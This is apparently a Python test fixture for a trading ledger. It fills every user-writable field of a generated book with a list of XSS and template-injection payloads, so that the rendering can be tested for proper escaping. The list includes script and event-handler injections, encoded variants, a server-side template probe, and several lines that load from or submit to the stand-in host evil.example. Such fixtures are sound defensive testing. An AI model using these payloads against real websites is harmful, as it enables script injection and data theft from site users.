"""A book in which every text a stranger can write tries to become a part of the page.

One account for each attempt: as its label, the name and the rows of its record, the venue's words
in its fill, the market, a remark, an opening's author and source, and all that is written on a
break.
"""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

from ledger.book import Book
from ledger.entries import Part, RawRecord, Reading
from ledger.events import (
    BreakAssigned,
    BreakExplained,
    Event,
    Filled,
    GroupDefined,
    Noted,
    Opened,
    OpeningBalance,
)
from ledger.events.desk import GroupMember
from ledger.seal import digest_of_record
from ledger.units import DESK, Address, Asset, Coin, EventId, Millis, account_stream, desk_stream
from projections.breaks import Break, identity, opened
from tests.support.books import START, paid

LINES = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script>alert(1)//
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<IMG SRC=javascript:alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc='<script>1'>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<math><mi href=javascript:alert(1)>x
<a href=javascript:alert(1)>x</a>
<form action=//evil.example><button>x</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<base href=//evil.example/>
<meta http-equiv=refresh content='0;url=//evil.example'>
<link rel=stylesheet href=//evil.example>
<style>*{background:url(//evil.example)}</style>
<div style=background:url(//evil.example)>
<template><script>alert(1)</script></template>
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<!--><script>alert(1)</script>
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
x" autofocus onfocus="alert(1)" y="
"/><img src=x onerror=alert(1)>
</td></tr></table><script>alert(1)</script>
</pre><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</code><img src=x onerror=alert(1)>
</a><a href=javascript:alert(1)>x
{{7*7}}
{% raw %}<script>1
{{ config.__class__.__init__.__globals__ }}
${alert(1)}
#{alert(1)}
<%= 7*7 %>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)
<script/x>alert(1)</script>
javascript:alert(1)
data:text/html,<script>alert(1)</script>
//evil.example/<script>
＜script＞alert(1)＜/script＞
<sCrIpT>alert(1)</ScRiPt>
<x onclick=alert(1)>press
"""

ATTEMPTS = (
    *LINES.strip().split("\n"),
    "<a href='java\tscript:alert(1)'>x</a>",
    "<script\x0b>alert(1)</script>",
)


def address(number: int) -> Address:
    """The account of one attempt."""
    return Address(f"0x{number:040x}")


def _filled(number: int, text: str) -> Filled:
    return Filled(
        stream=account_stream(address(number)), at=Millis(START + 1_000), coin=Coin(text),
        px=Decimal(10), sz=Decimal(2), side="B", direction=text, start_position=Decimal(0),
        reported_closed_pnl=None, reported_net_pnl=None, notional=None, fee=Decimal("0.1"),
        fee_asset=Asset("USDC"), builder_fee=None, crossed=True, oid=number + 1, tid=number + 1,
        cloid=None, twap_id=None, liquidated_user=None, liquidation_mark=None,
        liquidation_method=None, tx_hash=f"0x{number:064x}",
    )  # fmt: skip


def _record(book: Book, number: int, text: str) -> None:
    body = json.dumps([{"hour": 1, "note": text}, {"fill": text}], ensure_ascii=False).encode()
    record = RawRecord(name=text, body=body, digest=digest_of_record(body))
    stream = account_stream(address(number))
    funding = Part(stream=stream, source="api", answer="", rows=(0,),
                   events=(paid(0, stream=stream, coin=text),))  # fmt: skip
    fills = Part(stream=stream, source="api", answer="", rows=(1,), events=(_filled(number, text),))
    book.append(record, Reading(kind="composed", parts=(funding, fills)), recorded=Millis(START))


def _break(number: int, text: str) -> Break:
    at = Millis(START + 2_000)
    account = address(number)
    name = identity(desk="state", account=account, subject=text, at=at, until=at)
    return Break(
        identity=name, desk="state", account=account, subject=text, at=at, until=at, kind=text,
        expected=Decimal(1), observed=Decimal(2), difference=Decimal(1), convention=text,
        candidates=((text, Decimal(2)),), events=(), text=text,
    )  # fmt: skip


def _said(number: int, text: str) -> list[Event]:
    """What people wrote: a remark, an opening, a label, and the story of a break."""
    whose, stream = address(number), account_stream(address(number))
    spot = OpeningBalance(place="spot", asset=Asset("USDC"), amount=Decimal(5))
    found = _break(number, text)
    desk = desk_stream(whose)
    run = EventId("0" * 32)
    return [
        Opened(stream=stream, at=Millis(START - 1_000), author=text, source=text, positions=(),
               balances=(spot,)),
        Noted(stream=stream, at=Millis(START + 3_000), author=text, text=text),
        GroupDefined(stream=DESK, at=Millis(START + number), name=f"{number} {text}",
                     members=(GroupMember(address=whose, role="master", label=text),),
                     because=text, by=text),
        opened(found, stream=desk, at=Millis(START + 4_000), against=text, run=run, by=text),
        BreakAssigned(stream=desk, at=Millis(START + 5_000), identity=found.identity, owner=text,
                      because=text, by=text),
        BreakExplained(stream=desk, at=Millis(START + 6_000), identity=found.identity,
                       figures=found.figures, because=text, by=text),
    ]  # fmt: skip


def hostile_book(path: Path) -> Path:
    """Write the book."""
    with Book.create(path) as book:
        for number, text in enumerate(ATTEMPTS):
            _record(book, number, text)
        said = [event for number, text in enumerate(ATTEMPTS) for event in _said(number, text)]
        book.act(said, recorded=Millis(START + 1))
    return path
